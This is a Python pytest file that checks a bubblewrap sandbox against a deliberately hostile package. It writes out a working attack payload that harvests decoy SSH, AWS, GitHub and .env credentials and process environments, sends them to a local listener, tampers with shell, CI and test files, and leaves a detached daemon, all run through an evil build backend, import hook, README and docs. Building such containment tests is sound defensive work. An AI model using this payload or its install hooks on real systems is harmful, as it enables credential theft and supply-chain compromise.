"""A hostile candidate against a whole spike, boxed: build backend, import, README, docs, upstream
test and the team's own test re-run in the candidate's environment all attack, and nothing of
the team's is read, written or reached; nothing outlives the run; the results are the host's.

Real bubblewrap, a real index on 127.0.0.1, real installs (uv or pip), no mocks.
"""

from __future__ import annotations

import hashlib
import json
import os
import sys
import textwrap
import time
from pathlib import Path

import pytest
from indexserver import IndexServer
from listener import Listener
from pkgfactory import FakeProject, backend_from_sdist

import pytest_spike
from pytest_spike._core import sandbox
from pytest_spike.envs.manager import pip_index_settings

pytestmark = pytest.mark.skipif(
    not sandbox.status(sandbox.Policy()).boxed,
    reason=f"no box here: {sandbox.status(sandbox.Policy()).reason}",
)

MARK = "EVIL-WROTE"

# Everything the attacker does, at every stage; it ends by raising what it achieved, so the
# host's own evidence (a failed import, a failed README block...) shows that the code ran.
ATTACK = r"""
import glob, json, os, socket, subprocess, sys

PLAN = json.loads(%(plan)r)

def _daemon():
    # A setsid double fork that would rewrite the results after the run.
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import time
            time.sleep(3)
            for path in [PLAN["results"]]:
                try:
                    with open(path, "w") as handle:
                        handle.write('{"candidates": []}')
                except OSError:
                    pass
            os._exit(0)
        os._exit(0)

def attack(stage):
    stolen = {}
    for path in PLAN["secrets"] + glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as handle:
                stolen[path] = handle.read().decode("utf-8", "replace")
        except OSError:
            pass
    sent = "no"
    try:
        sock = socket.create_connection(("127.0.0.1", PLAN["port"]), timeout=2)
        sock.sendall((stage + json.dumps(stolen) + json.dumps(dict(os.environ))).encode())
        sock.close()
        sent = "sent"
    except OSError:
        pass
    wrote = []
    targets = list(PLAN["write"])
    targets += glob.glob(PLAN["cache"] + "/envs/*/lib/python*/site-packages/goodpkg/__init__.py")
    targets += glob.glob(PLAN["cache"] + "/layers/*/_pytest/__init__.py")
    targets += [p + "/_pytest/__init__.py" for p in sys.path]
    for path in targets:
        try:
            with open(path, "a") as handle:
                handle.write("\n# %(mark)s\n")
            wrote.append(path)
        except OSError:
            pass
    _daemon()
    raise RuntimeError("EVIL-RAN %%s sent=%%s wrote=%%d %%s" %% (stage, sent, len(wrote), wrote))
"""

BACKEND = backend_from_sdist(
    "evilpkg",
    "1.0",
    header="from evilpkg_attack import attack",
    before='try:\n    attack("install")\nexcept RuntimeError:\n    pass',
)

# At import the attack's outcome becomes a warning (the import probe records warnings), so
# the import itself succeeds and the team's test reaches ``works()``.
IMPORT_TIME = """
import warnings
try:
    attack("import")
except RuntimeError as exc:
    warnings.warn(str(exc), UserWarning)

def works():
    attack("tests")
"""

README = """# evilpkg

```python
import evilpkg
evilpkg.attack("readme")
```
"""


def digest(*folders: Path) -> str:
    total = hashlib.sha256()
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                total.update(str(path).encode() + path.read_bytes())
    return total.hexdigest()


def test_a_hostile_candidate_reaches_nothing_of_yours_at_any_stage(
    pytester: pytest.Pytester, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: Listener
) -> None:
    home = tmp_path / "home"
    secrets = {
        ".ssh/id_rsa": "s3cr3t-ssh",
        ".aws/credentials": "aws_secret_access_key = s3cr3t-aws",
        ".netrc": "machine x login y password s3cr3t-netrc",
        ".pypirc": "password = s3cr3t-pypirc",
        ".config/gh/hosts.yml": "oauth_token: s3cr3t-gh",
        ".bashrc": "# yours\n",
    }
    for relative, text in secrets.items():
        (home / relative).parent.mkdir(parents=True, exist_ok=True)
        (home / relative).write_text(text)
    project = pytester.path
    (project / ".git").mkdir()
    (project / ".git" / "config").write_text("[http]\n\textraheader = AUTHORIZATION: basic s3cr3t-checkout\n")
    (project / ".env").write_text("TOKEN=s3cr3t-dotenv\n")
    github_env = tmp_path / "github_env"
    github_env.write_text("")
    cache = tmp_path / "cache"
    results = project / "r.json"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GITHUB_ENV", str(github_env))
    monkeypatch.setenv("GITHUB_TOKEN", "s3cr3t-token")
    monkeypatch.setenv("DATABASE_URL", "postgres://u:s3cr3t-db@db.invalid/x")
    monkeypatch.setenv("CI_JOB_JWT", "s3cr3t-jwt")

    plan = {
        "secrets": [str(home / r) for r in secrets] + [str(project / ".git/config"), str(project / ".env")],
        "write": [
            str(home / ".bashrc"),
            str(github_env),
            str(project / "conftest.py"),
            str(project / "test_spike.py"),
        ],
        "port": listener.port,
        "results": str(results),
        "cache": str(cache),
    }
    attack = ATTACK % {"plan": json.dumps(plan), "mark": MARK}
    evil = FakeProject(
        "evilpkg",
        "1.0",
        files={"evilpkg/__init__.py": attack + IMPORT_TIME},
        readme=README,
        sdist_files={
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "evilbackend"\nbackend-path = ["."]\n',
            "evilbackend.py": BACKEND,
            "evilpkg_attack.py": attack,
            "tests/test_evil.py": "def test_evil():\n    import evilpkg\n    evilpkg.attack('upstream')\n",
            "docs/quickstart.md": "```python\nimport evilpkg\nevilpkg.attack('docs')\n```\n",
        },
    )
    (project / "conftest.py").write_text("# the team's conftest\n")
    pytester.makepyfile(
        test_spike=textwrap.dedent(
            """
            from pytest_spike import spike

            pytestmark = spike.candidate("evilpkg")

            @spike.hello_world
            def test_it_works():
                import evilpkg
                assert evilpkg.works()
            """
        )
    )
    spike_file = (project / "test_spike.py").read_bytes()
    layer_source = Path(pytest.__file__).parent.parent / "_pytest"
    running = digest(layer_source, Path(pytest_spike.__file__).parent)
    with IndexServer(tmp_path / "index") as index:
        index.add(evil, wheel=False)
        index.add("goodpkg", "1.0")
        # The installers find the fixture packages here, and pytest (for upstream's harness)
        # where this machine's pip finds it.
        extra = pip_index_settings().get("extra-index-url", "")
        monkeypatch.setenv("PIP_EXTRA_INDEX_URL", f"{index.url}/ {extra}".strip())
        run = pytester.runpytest_subprocess(
            "--spike",
            "--spike-isolation=always",
            "--spike-candidate=goodpkg",
            f"--spike-index-url={index.url}",
            f"--spike-cache-dir={cache}",
            f"--spike-json={results}",
            "-p",
            "no:cacheprovider",
            timeout=600,
        )
    written = results.read_bytes()
    text = written.decode()
    output = run.stdout.str() + run.stderr.str()
    assert "candidate code: sandboxed (bubblewrap)" in output

    # The code ran at every stage (the host saw it fail), and achieved nothing.
    data = json.loads(text)
    assert data["complete"] is True
    assert data["settings"]["sandbox"] == "sandboxed (bubblewrap)"
    for stage in ("import", "readme", "docs", "upstream", "tests"):
        assert f"EVIL-RAN {stage} sent=no " in text, f"{stage} did not run, or reached the listener"
    # What it tried is evidence, stage by stage, your tests' stage too (the candidate's frames
    # only), with the host's secrets it reached for by name.
    tried = {
        (f["code"], f["evidence"].get("stage")): f
        for c in data["candidates"]
        if c["name"] == "evilpkg"
        for f in c["findings"]
    }
    reads = {
        (f["evidence"]["stage"], f["evidence"]["what"], f["severity"])
        for c in data["candidates"]
        if c["name"] == "evilpkg"
        for f in c["findings"]
        if f["code"] == "behaviour.reads"
    }
    for stage in ("import", "tests"):
        assert "/evilpkg/__init__.py:" in tried[("behaviour.network", stage)]["evidence"]["by"]
    assert ("import", str(home / ".ssh/id_rsa"), "high") in reads
    assert ("tests", str(project / ".env"), "info") in reads
    # What it "wrote" landed in the box's private /tmp at most: checked on the host below.
    assert "s3cr3t" not in text + output
    # Only the installer's step has a network (for the index): what reached the listener holds
    # decoys at most.
    for message in listener.received:
        assert b"s3cr3t" not in message
        assert message.startswith(b"install"), message[:80]
    # Nothing of yours changed; the running environment and pytest-spike are untouched.
    for relative, text_before in secrets.items():
        assert (home / relative).read_text() == text_before
    assert github_env.read_text() == ""
    assert (project / "conftest.py").read_text() == "# the team's conftest\n"
    assert (project / "test_spike.py").read_bytes() == spike_file
    assert digest(layer_source, Path(pytest_spike.__file__).parent) == running
    for path in cache.rglob("*"):
        if path.is_file() and path.suffix in (".py", ".json", ".pth"):
            body = path.read_text(errors="replace")
            assert not body.endswith(f"# {MARK}\n"), f"{path} was written by the candidate"
    # Nothing outlived the run: the daemon would have rewritten the results by now.
    time.sleep(4)
    assert results.read_bytes() == written
    alive = [
        p for p in Path("/proc").glob("[0-9]*") if b"evilpkg" in _cmdline(p) and int(p.name) != os.getpid()
    ]
    assert alive == [], [_cmdline(p) for p in alive]
    assert sys.executable  # the test process itself still runs, unharmed


def _cmdline(proc: Path) -> bytes:
    try:
        return (proc / "cmdline").read_bytes()
    except OSError:
        return b""
